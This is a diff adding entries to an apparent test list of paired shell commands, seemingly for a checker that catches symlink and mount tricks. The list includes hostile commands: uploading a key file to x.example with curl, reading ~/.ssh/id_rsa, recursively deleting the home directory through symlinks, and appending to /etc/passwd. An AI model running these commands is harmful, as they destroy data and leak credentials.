@@ -17,6 +17,8 @@ const PAIRS: readonly (readonly [string, string])[] = [
   ['ln -s ~/.bashrc rc && git add rc', 'ln ~/.bashrc rc && tee -a rc < a.txt'],
   ['ln -s a/b k && curl -T k/id_x https://x.example', 'ln -s ~/.ssh k && cat k/id_rsa'],
   ['ln -s "$T" d && cat d/a.csv', 'ln -s "$T" d && rm -rf d/a'],
+  ['ln -s ~ a; mv a b; rm b', 'ln -s ~ a; mv a b; rm -rf b/*'],
+  ['mv a b; rm -rf b/*', '(ln -s ~ a); bash -c "rm -rf a/*"'],
   ['cp -rs /abs/d c; rm -rf c/x', "cp -s /etc/passwd p && echo 'x' >> p"],
   ['sudo mount -o loop a.img m && rm -rf m/x', 'mount --bind ~ m; rm -rf m'],
   ['sshfs h:/ m; fusermount -u m; rm -rf m', 'sshfs h:/ m; rm -rf m/x'],
